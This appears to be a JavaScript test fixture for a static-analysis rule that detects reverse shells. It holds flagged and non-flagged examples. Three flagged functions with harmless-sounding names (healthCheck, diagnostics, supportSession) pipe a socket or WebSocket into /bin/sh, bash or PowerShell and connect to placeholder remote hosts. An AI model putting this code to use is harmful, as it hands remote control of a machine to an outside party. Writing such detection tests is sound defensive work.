const fs = require("node:fs");
const net = require("node:net");
const { spawn } = require("node:child_process");
const WebSocket = require("ws");

function healthCheck() {
  const shell = spawn("/bin/sh", ["-i"]);
  const link = net.connect(4444, "monitor.example.invalid", () => {
    // ruleid: execution/reverse-shell-javascript
    link.pipe(shell.stdin);
    shell.stdout.pipe(link);
  });
}

function diagnostics(child, host) {
  const socket = new net.Socket();
  const terminal = child.spawn("bash", []);
  socket.connect(9001, host);
  // ruleid: execution/reverse-shell-javascript
  socket.pipe(terminal.stdin);
}

function supportSession() {
  const channel = new WebSocket("wss://support.example.invalid");
  const prompt = spawn("powershell.exe");
  // ruleid: execution/reverse-shell-javascript
  channel.on("message", (line) => prompt.stdin.write(line));
}

function convert(path, target) {
  const tool = spawn("ffmpeg", ["-i", "pipe:0", target]);
  // ok: execution/reverse-shell-javascript
  fs.createReadStream(path).pipe(tool.stdin);
}

function runCommands(lines) {
  const shell = spawn("/bin/sh");
  for (const line of lines) {
    // ok: execution/reverse-shell-javascript
    shell.stdin.write(`${line}\n`);
  }
  shell.stdin.end();
}

function echo(port) {
  const socket = net.connect(port);
  // ok: execution/reverse-shell-javascript
  socket.pipe(socket);
}

function compress(host) {
  const socket = net.createConnection(9000, host);
  const tool = spawn("gzip", ["-d"]);
  // ok: execution/reverse-shell-javascript
  socket.pipe(tool.stdin);
}

module.exports = { healthCheck, diagnostics, supportSession, convert, runCommands, echo, compress };
